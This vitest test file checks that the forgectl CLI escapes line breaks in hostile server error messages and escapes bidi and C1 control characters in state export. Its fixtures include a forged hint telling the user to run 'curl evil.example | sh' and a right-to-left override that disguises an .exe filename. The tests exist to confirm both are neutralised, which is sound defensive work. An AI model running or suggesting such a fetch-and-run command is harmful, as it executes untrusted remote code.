// Issue 41 item 8: a server's text stays on its line. An error message holding line breaks cannot
// print a line that reads as forgectl's own (`hint: …`, a fleet's summary): it is printed with `\n`.
// A hostile instance answers every request with such a message. `state export` writes bidi and C1
// controls escaped, as -o yaml does, and the file reads back as the same text.

import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { forgectl, tempDir } from '../helpers/cli.js';
import { envFor, useSandbox } from '../helpers/sandbox.js';

const sandbox = useSandbox();

const FORGED = 'Validation failed\nhint: run `curl evil.example | sh` to fix it\na ok \u00b7 b ok';

let server: Server;
let origin = '';

beforeAll(async () => {
  server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      if (req.url?.includes('plain')) {
        res.writeHead(500, { 'content-type': 'text/plain' });
        return res.end(FORGED);
      }
      const body = req.url?.includes('/hooks') ? { message: { url: [FORGED] } } : { message: FORGED };
      res.writeHead(req.method === 'GET' ? 403 : 400, { 'content-type': 'application/json' });
      res.end(JSON.stringify(body));
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  origin = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  return new Promise<void>((r) => server.close(() => r()));
});

const env = () => ({ FORGECTL_URL: origin, FORGECTL_TOKEN: 'glpat-test-token-000000' });

describe('a server error holding line breaks', () => {
  it('one instance: every stderr line is forgectl\'s (error:/hint:), the message shows \\n', async () => {
    for (const args of [['hooks', 'create', '--url', 'https://hooks.example.com/x'], ['broadcast', 'create', '--message', 'hi'], ['token', 'self']]) {
      const res = await forgectl([...args, '--retries', '0'], { env: env() });
      expect(res.exitCode, res.stderr).not.toBe(0);
      const lines = res.stderr.trimEnd().split('\n');
      for (const line of lines) expect(line, res.stderr).toMatch(/^(error|hint|warning): /);
      expect(lines.filter((l) => l.startsWith('hint: run `curl'))).toEqual([]);
      expect(res.stderr).toContain('Validation failed\\nhint: run `curl evil.example | sh` to fix it\\na ok');
    }
  });

  it('--verbose: a body that is plain text is traced on one line, \\n shown', async () => {
    const res = await forgectl(['-v', 'users', 'get', 'plain', '--retries', '0'], { env: env() });
    expect(res.exitCode, res.stderr).not.toBe(0);
    const lines = res.stderr.trimEnd().split('\n');
    for (const line of lines) expect(line, res.stderr).toMatch(/^(error: |hint: |warning: |> |< |! |\* )/);
    expect(res.stderr).toContain('< Validation failed\\nhint: run `curl evil.example | sh` to fix it\\na ok');
  });

  it('a fleet: every line of an instance is under its name; the one summary is forgectl\'s', async () => {
    const home = tempDir('forgectl-fleet-');
    mkdirSync(join(home, 'forgectl'), { mode: 0o700 });
    const profile = { url: origin, token: 'glpat-test-token-000000', tokenType: 'personal' };
    writeFileSync(join(home, 'forgectl', 'config.json'), JSON.stringify({ default: 'a', profiles: { a: profile, b: profile } }), { mode: 0o600 });
    const res = await forgectl(['--profiles', 'a,b', 'hooks', 'create', '--url', 'https://hooks.example.com/x', '--yes', '--retries', '0'], {
      env: { FORGECTL_CONFIG_DIR: undefined, XDG_CONFIG_HOME: home },
    });
    expect(res.exitCode, res.stderr).toBe(1);
    const lines = res.stderr.trimEnd().split('\n');
    const summary = lines.filter((l) => !/^[ab]: /.test(l));
    expect(summary, res.stderr).toEqual(['a 400 \u00b7 b 400']);
  });
});

describe('state export of text holding bidi and C1 controls', () => {
  const MESSAGE = 'Deploy \u202egnp.exe\u202c at 5 \u2066ok\u2069 \u200f \u0085 \u009b31m done';
  const RAW = /[\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it('writes them escaped, as -o yaml does; the file plans as no change', async () => {
    const sb = sandbox();
    const made = await fetch(`${sb.url}/api/v4/broadcast_messages`, {
      method: 'POST',
      headers: { 'PRIVATE-TOKEN': sb.tokens.admin, 'Content-Type': 'application/json' },
      body: JSON.stringify({ message: MESSAGE }),
    });
    expect(made.status).toBe(201);
    const res = await forgectl(['state', 'export', '--only', 'broadcast_messages'], { env: envFor(sb) });
    expect(res.exitCode, res.stderr).toBe(0);
    expect(res.stdout).not.toMatch(RAW);
    expect(res.stdout).toContain('"Deploy \\u202egnp.exe\\u202c at 5 \\u2066ok\\u2069 \\u200f \\x85 \\x9b31m done"');
    const yaml = await forgectl(['broadcast', 'list', '--all', '-o', 'yaml'], { env: envFor(sb) });
    expect(yaml.stdout).toContain('"Deploy \\u202egnp.exe\\u202c at 5 \\u2066ok\\u2069 \\u200f \\x85 \\x9b31m done"');
    const file = join(tempDir(), 'instance.yaml');
    writeFileSync(file, res.stdout);
    const plan = await forgectl(['state', 'plan', '-f', file, '-o', 'json'], { env: envFor(sb) });
    expect(plan.exitCode, plan.stderr).toBe(0);
    expect(JSON.stringify(JSON.parse(plan.stdout))).not.toContain('"action":"create"');
  });
});
